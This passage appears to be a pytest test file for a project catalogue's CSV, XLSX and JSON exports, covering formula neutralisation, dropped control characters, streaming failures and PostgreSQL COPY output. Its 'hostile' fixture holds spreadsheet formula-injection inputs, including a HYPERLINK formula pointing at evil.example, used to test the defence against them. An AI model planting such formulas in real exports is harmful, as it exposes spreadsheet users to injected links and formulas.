    assert record["funders"] == ["fund-b", "fund-a"]
    assert record["funder_names"] == ["Fund", "Fund"]


# Text for spreadsheets: one rule for every export.


@pytest.mark.parametrize("title", [" =1+1", "   @SUM(A1)", "  -2+3", " \t=1+1", " \x01 +1"])
def test_a_formula_behind_leading_spaces_starts_with_a_quote_too(client, title):
    # LibreOffice's CSV import can strip leading spaces ("Trim spaces") before it sees a formula.
    make_project(title=title, slug="spaced")
    expected = "'" + title.replace("\x01", "")
    [row] = read_csv(export(client, "csv"))
    assert row["title"] == expected
    [row] = read_xlsx(export(client, "xlsx"))
    assert row["title"] == expected
    assert read_json(export(client, "json"))[0]["title"] == title


@pytest.mark.parametrize("title", [" Plain title", "  ", "A=B", "'=already quoted"])
def test_text_that_is_no_formula_is_left_as_it_is(client, title):
    make_project(title=title)
    assert [row["title"] for row in read_csv(export(client, "csv"))] == [title]


def test_the_neutraliser_and_its_inverse_are_one_rule():
    for text in ["=1", " =1", "\t=1", "\r", "@a", "-", "+", "  -x"]:
        assert exports.neutralise(text) == "'" + text
        assert exports.restore_neutralised(exports.neutralise(text)) == text
    for text in ["a", " a", "'a", "'", "", "1-2", "'=xy"]:
        assert exports.neutralise(text) == text
    assert exports.restore_neutralised("'=x") == "=x"
    assert exports.restore_neutralised("'x") == "'x"
    assert exports.restore_neutralised(2020) == 2020


@pytest.mark.parametrize(
    ("title", "kept"),
    [
        ("Start\x01of heading", "Startof heading"),
        ("\x02\x03\x1f=1+1", "'=1+1"),
        ("Byte order\ufffe mark\uffff", "Byte order mark"),
        ("Tab\tline\nreturn\rkept", "Tab\tline\nreturn\rkept"),
    ],
)
def test_characters_an_xlsx_cannot_hold_are_dropped_not_a_broken_file(client, title, kept):
    make_project(title=title, slug="odd", organisations=[make_organisation(name=f"Unit {title}")])
    [row] = read_xlsx(export(client, "xlsx"))
    # XML turns a carriage return into a line feed; what matters is what was dropped.
    assert row["title"].replace("\n", "\r") == kept.replace("\n", "\r")
    assert row["units"].replace("\n", "\r") == f"Unit {kept.lstrip(chr(39))}".replace("\n", "\r")
    [row] = read_csv(export(client, "csv"))
    assert row["title"] == kept
    assert read_json(export(client, "json"))[0]["title"] == title


def test_the_status_table_is_the_models_rule_for_every_year():
    # PostgreSQL's COPY looks a row's status up in this table by the class of its years
    # (empty, before, in or after the export's year; see exports.STATUS_INDEX), which holds
    # because the rule only compares years with the export's, and the model allows only
    # 1950–2100 or empty.
    shared = exports.Shared(YEAR, lambda path: path)
    table = shared.status_table()

    def year_class(year):
        return 0 if year is None else (year > YEAR) - (year < YEAR) + 2

    years = [None, *range(EARLIEST_YEAR, LATEST_YEAR + 1)]
    cutoff = shared.cutoff
    confirmations = [None, cutoff - timedelta(1), cutoff, cutoff + timedelta(1)]
    for confirmed in confirmations:
        stale = confirmed is None or confirmed < cutoff
        for paused in (False, True):
            for start in years:
                for end in years:
                    index = 32 * stale + 16 * paused + 4 * year_class(start) + year_class(end)
                    expected = derived_status(paused, start, end, YEAR, confirmed, cutoff)
                    assert table[index] == expected.value


# Streaming: a failure must show, whatever the client.


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_an_export_that_fails_half_way_raises_rather_than_ending(client, monkeypatch, fmt):
    for _ in range(3):
        make_project()
    # Small pieces, so that the first ones leave before the failure.
    monkeypatch.setattr(exports, "FLUSH_AT", 1)
    monkeypatch.setattr(export_copy, "FLUSH_AT", 1)
    built = []

    def failing(*args):
        if len(built) == 1:
            raise ConnectionError("the database went away")
        built.append(args)
        return original(*args)

    if fmt == "csv" and connection.vendor == "postgresql":
        original = export_copy._without_illegal
        monkeypatch.setattr(export_copy, "_without_illegal", failing)
    else:
        original = exports.project_record
        monkeypatch.setattr(exports, "project_record", failing)
    response = export(client, fmt)
    assert response.status_code == 200 and response.streaming
    pieces = iter(response.streaming_content)
    assert next(pieces)
    # The error reaches the server, which then ends the response without the last chunk
    # (tests/projects/test_streamed_downloads.py): nothing here may swallow it and end cleanly.
    with pytest.raises(ConnectionError):
        list(pieces)


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_an_http_1_0_client_gets_the_whole_file_with_its_length(client, catalogue, fmt):
    streamed = content_of(export(client, fmt))
    response = export(client, fmt, SERVER_PROTOCOL="HTTP/1.0")
    assert isinstance(response, FileResponse)
    body = content_of(response)
    assert body == streamed
    assert int(response["Content-Length"]) == len(body)
    assert response["Content-Disposition"] == export(client, fmt)["Content-Disposition"]


# PostgreSQL's COPY: the same CSV, byte for byte.

on_postgresql = pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")


def test_the_csv_is_written_by_copy_on_postgresql_only(catalogue):
    queryset = Project.objects.published().for_list()
    pieces = export_copy.csv_pieces(queryset.order_by("title"), lambda path: path)
    assert (pieces is not None) == (connection.vendor == "postgresql")
    # An order COPY's query cannot repeat (a relation's name stands for its model's ordering)
    # is left to the records built in Python.
    assert export_copy.csv_pieces(queryset.order_by("municipality"), lambda path: path) is None


# Start and end years of every class: empty, before, in and after this year.
YEARS = [
    (None, None),
    (YEAR - 1, YEAR),
    (YEAR, YEAR + 1),
    (YEAR + 1, YEAR + 3),
    (None, YEAR - 1),
    (YEAR - 3, None),
    (YEAR + 2, None),
    (YEAR, YEAR),
]


@pytest.fixture
def hostile(crowded):
    """The catalogue and `crowded`, and projects whose text tries every rule of a CSV cell."""
    town = make_municipality("comma-town", name="Town, with comma")
    odd = make_funder("odd", name='Funder "quoted"')
    titles = [
        '=HYPERLINK("http://evil.example")',
        " =1+1",
        "\x01=1+1",
        "\ufffeByte order mark",
        'He said "yes", then left',
        "Line\nbreak",
        "Carriage\rreturn",
        "Tab\tinside",
        "\tTab first",
        "-5 degrees",
        "@home",
        "+1 for culture",
        "  spaces first",
        "Ünïcödé – Rēzekne ✓",
        "🎉 Emoji first",
        "",
        "\\.",
    ]
    for number, title in enumerate(titles):
        make_project(
            slug=f"hostile-{number}",
            title=title,
            municipality=town if number % 2 else make_municipality("vaxjo"),
            countries=["LV", "UA"][: number % 3],
            goals=[1 + number % 17, 17],
            funders=[odd, "sida"][: number % 3],
            organisations=[
                make_organisation(town, name=name) for name in ["=unit", "", "a,b"][: number % 4]
            ],
            partner_municipalities=[town] if number % 3 == 1 else [],
            website=["", "https://example.org/?a=1,2", "=x"][number % 3],
            type=list(Project.Type.values)[number % len(Project.Type.values)],
            start_year=YEARS[number % len(YEARS)][0],
            end_year=YEARS[number % len(YEARS)][1],
            paused=number % 5 == 0,
        )
    moments = [
        datetime(2024, 3, 31, 0, 59, 59, 999999, tzinfo=UTC),
        datetime(2024, 3, 31, 1, 0, 0, tzinfo=UTC),
        datetime(2024, 10, 27, 0, 59, 59, tzinfo=UTC),
        datetime(2024, 10, 27, 1, 0, 0, 1, tzinfo=UTC),
        datetime(1999, 12, 31, 23, 0, 0, tzinfo=UTC),
        None,  # a seeded record nobody changed: an empty cell in both
    ]
    for number, moment in enumerate(moments):
        Project.objects.filter(slug=f"hostile-{number}").update(changed_at=moment)
    # Summaries, descriptions and translations made of the same texts: some projects in
    # English with a Swedish translation, others in Swedish with one into English or Latvian.
    for number, title in enumerate(titles):
        text = titles[(number + 1) % len(titles)]
        project = Project.objects.get(slug=f"hostile-{number}")
        Project.objects.filter(pk=project.pk).update(
            summary=text, description=f"{text}\n{title}", language="en" if number % 4 == 0 else "sv"
        )
        if number % 3 != 2:
            ProjectTranslation.objects.create(
                project=project,
                language="sv" if number % 4 == 0 else "lv" if number % 2 else "en",
                title=text,
                summary=title,
                description=f"{title}\r\n{text}" if number % 2 else "",
                translated_by="Comma, Inc.",
            )


@on_postgresql
@pytest.mark.parametrize("language", ["sv", "en", "lv"])
@pytest.mark.parametrize("restrict_up_to", [0, 1])
@pytest.mark.parametrize(
    "query",
    [
        "",
        "sort=title",
        "sort=-title",
        "sort=municipality",
        "sort=start_year",
        "q=rezekne",
        "q=hyperlink&sort=-start_year",
        "goal=17&country=UA",
        "status=paused&status=planned",
        "municipality=comma-town&type=research&type=exchange",
        "funder=sida",
        "q=nothing-matches",
    ],
)
def test_copy_writes_the_same_csv_as_python_byte_for_byte(
    hostile, monkeypatch, query, restrict_up_to, language
):
    # Restricted or not, the query picks the links of the chosen projects or aggregates all.
    monkeypatch.setattr(export_copy, "RESTRICT_UP_TO", restrict_up_to)
    request = RequestFactory().get("/", HTTP_HOST="testserver")
    with translation.override(language):
        queryset = ProjectFilter(
            QueryDict(query), queryset=Project.objects.published().for_list()
        ).qs
        copied = export_copy.csv_pieces(queryset, request.build_absolute_uri)
        plain = exports.csv_pieces(exports.project_records(queryset, request.build_absolute_uri))
        assert copied is not None
        copied, plain = b"".join(copied), b"".join(plain)
    assert copied == plain
    assert plain.count(b"\r\n") >= queryset.count() + 1


@on_postgresql
def test_the_view_writes_the_csv_with_copy_on_postgresql(client, hostile, monkeypatch):
    python_rows = []
    monkeypatch.setattr(exports, "project_record", lambda *args: python_rows.append(args))
    response = export(client, "csv", "sort=title", HTTP_ACCEPT_LANGUAGE="lv")
    rows = read_csv(response)
    assert python_rows == []
    assert len(rows) == Project.objects.published().count()
    assert {row["status"] for row in rows} == {"planned", "ongoing", "completed", "paused"}


@on_postgresql
def test_copy_leaves_the_connections_time_zone_as_it_was(hostile):
    request = RequestFactory().get("/", HTTP_HOST="testserver")
    queryset = Project.objects.published().for_list()
    with connection.cursor() as cursor:
        cursor.execute("SHOW TIME ZONE")
        before = cursor.fetchone()[0]
        b"".join(export_copy.csv_pieces(queryset, request.build_absolute_uri))
        cursor.execute("SHOW TIME ZONE")
        assert cursor.fetchone()[0] == before
